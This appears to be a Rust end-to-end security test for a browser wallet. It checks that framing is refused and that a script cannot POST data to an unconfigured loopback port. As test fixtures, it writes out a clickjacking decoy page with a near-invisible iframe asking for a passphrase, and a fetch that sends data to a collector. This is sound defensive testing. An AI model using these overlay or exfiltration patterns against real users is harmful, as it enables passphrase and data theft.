//! Clickjacking and exfiltration (issue 28, item 1), in real Chromium: a page on another origin
//! of the same site (another port of `localhost`) frames the wallet under a near-invisible
//! overlay with `allow="tools"`, as the red team did to turn the person's clicks and passphrase
//! into a hidden unlock and grant. The wallet refuses to be framed (`frame-ancestors 'none'`,
//! `X-Frame-Options: DENY`): the frame holds no wallet document and registers no tool. And a
//! script in the wallet's own page cannot post what it read to a loopback port the page was
//! not configured with (`connect-src`): the fetch is refused by the browser and the port sees no
//! connection, while the signer the page was told of is reached.
//!
//! Fails, never skips, when Chromium, the WebMCP switch or the built wallet is missing.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use signer::{KeyStore, system_now};
use tacit_e2e::signer_proc::TestSigner;
use tacit_e2e::wallet::Wallet;

const WAIT: Duration = Duration::from_secs(20);

/// Every frame below the top one in `Page.getFrameTree`, as (url, unreachableUrl).
fn child_frames(tree: &Value, out: &mut Vec<(String, String)>) {
    for child in tree["childFrames"].as_array().into_iter().flatten() {
        let frame = &child["frame"];
        out.push((
            frame["url"].as_str().unwrap_or_default().to_owned(),
            frame["unreachableUrl"]
                .as_str()
                .unwrap_or_default()
                .to_owned(),
        ));
        child_frames(child, out);
    }
}

/// A bare HTTP server on a free loopback port answering every request with `html` and no
/// security headers at all (the attacker's page, which sets no policy of its own). Serves until
/// the test process ends.
fn serve_bare(html: String) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut head = [0u8; 4096];
            let _ = stream.read(&mut head);
            let answer = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\
                 Connection: close\r\n\r\n{html}",
                html.len()
            );
            let _ = stream.write_all(answer.as_bytes());
        }
    });
    format!("http://localhost:{port}")
}

#[test]
fn a_page_on_another_origin_of_the_same_site_framing_the_wallet_sees_nothing() {
    let _serial = tacit_e2e::serial();
    let (server, browser) = tacit_e2e::wallet::setup();
    let wallet_url = server.url("/");
    // The control: a page with no frame protection, which the attacker's page frames fine.
    let open_page = serve_bare("<!doctype html><title>open</title><p>open".to_owned());
    let open_url = format!("{open_page}/");
    // The attacker: another port of localhost (the same site, another origin), framing the
    // wallet under a near-invisible overlay that passes the WebMCP permission on.
    let attacker = serve_bare(format!(
        "<!doctype html><title>Win a prize</title><p>Type your passphrase to win</p>\
         <input id=decoy><iframe id=hidden src=\"{wallet_url}\" allow=\"tools\" \
         style=\"opacity:0.01;position:absolute;top:0;left:0;width:100%;height:100%\">\
         </iframe><iframe id=control src=\"{open_url}\"></iframe>"
    ));
    assert_ne!(attacker, server.origin());
    let mut page = browser.new_page().unwrap();
    page.enable_webmcp().unwrap();
    page.send("Log.enable", json!({})).unwrap();
    page.navigate(&format!("{attacker}/")).unwrap();

    // Wait until the control has loaded and the browser has said what it did with the other.
    let deadline = Instant::now() + WAIT;
    let mut said: Vec<String> = Vec::new();
    let frames = loop {
        let tree = page.send("Page.getFrameTree", json!({})).unwrap();
        let mut frames = Vec::new();
        child_frames(&tree["frameTree"], &mut frames);
        let log = page.take_events("Log.entryAdded").unwrap();
        said.extend(
            log.iter()
                .filter_map(|e| e.params["entry"]["text"].as_str().map(str::to_owned)),
        );
        let refused = said.iter().any(|t| t.contains("frame-ancestors 'none'"));
        if (frames.iter().any(|f| f.0 == open_url) && refused) || Instant::now() > deadline {
            break frames;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(
        frames.iter().any(|f| f.0 == open_url),
        "the control page is framed: {frames:?}"
    );
    // The browser refused the wallet, for the wallet's own policy ...
    assert!(
        said.iter().any(|t| t.contains("frame-ancestors 'none'")),
        "{said:#?}"
    );
    // ... and no frame of the tab, in this process or another, holds the wallet's document:
    // the frame the browser made for it (an out-of-process target) holds its error page, whose
    // title is the bare URL, never the wallet's "Tacit wallet".
    assert!(
        frames.iter().all(|f| !f.0.starts_with(&server.origin())),
        "{frames:?}"
    );
    let targets = browser.send("Target.getTargets", json!({})).unwrap();
    let infos = targets["targetInfos"].as_array().unwrap();
    let framed: Vec<&Value> = infos
        .iter()
        .filter(|t| t["type"] == "iframe" && t["url"].as_str() == Some(wallet_url.as_str()))
        .collect();
    assert_eq!(framed.len(), 1, "{infos:#?}");
    assert_eq!(framed[0]["title"], wallet_url.as_str(), "{framed:#?}");
    assert!(
        infos.iter().all(|t| t["title"] != "Tacit wallet"
            || t["type"] == "page" && t["url"].as_str() != Some(wallet_url.as_str())),
        "{infos:#?}"
    );
    // Nothing of the wallet runs anywhere in the tab: no tool in the registry, none announced
    // over the DevTools domain, however long we wait for its boot.
    std::thread::sleep(Duration::from_secs(2));
    assert!(page.tools().unwrap().is_empty(), "{:?}", page.tools());
    assert_eq!(
        page.eval("document.modelContext.getTools().then(t => t.length)")
            .unwrap(),
        0
    );
}

#[test]
fn a_script_in_the_wallet_page_cannot_post_to_a_loopback_port_it_was_not_configured_with() {
    let _serial = tacit_e2e::serial();
    let (server, browser) = tacit_e2e::wallet::setup();
    // A service the page is told of (started before the page loads, as the demo does).
    let signer =
        TestSigner::start(KeyStore::make(system_now()).unwrap(), &[&server.origin()]).unwrap();
    // The collector: a loopback port nobody told the page of.
    let collector = TcpListener::bind("127.0.0.1:0").unwrap();
    collector.set_nonblocking(true).unwrap();
    let port = collector.local_addr().unwrap().port();
    let mut wallet = Wallet::open(&browser, &server, "");
    wallet.page.watch_csp().unwrap();
    wallet.reload();
    wallet.create_profile();

    let post = |url: &str| {
        wallet
            .page
            .eval(&format!(
                "fetch({url:?}, {{ method: 'POST', mode: 'no-cors', body: 'income=28500' }})\
                 .then(() => 'sent', (e) => 'refused: ' + e.name)"
            ))
            .unwrap()
    };
    for host in ["127.0.0.1", "localhost"] {
        let out = post(&format!("http://{host}:{port}/collect"));
        assert_eq!(out, "refused: TypeError", "{host}");
    }
    // Not a byte reached the collector.
    std::thread::sleep(Duration::from_millis(500));
    match collector.accept() {
        Ok((mut stream, _)) => {
            let mut got = String::new();
            let _ = stream.read_to_string(&mut got);
            panic!("the collector was reached: {got:?}");
        }
        Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock),
    }
    let violations = wallet.page.csp_violations().unwrap();
    assert!(
        violations
            .iter()
            .any(|v| v.starts_with("connect-src") && v.contains(&port.to_string())),
        "{violations:?}"
    );
    // The signer the page was told of is reached (the policy is not simply "nothing").
    let keys = wallet
        .page
        .eval(&format!(
            "fetch('{}/v1/keys').then(r => r.status, (e) => 'refused: ' + e.name)",
            signer.url()
        ))
        .unwrap();
    assert_eq!(keys, 200);
}
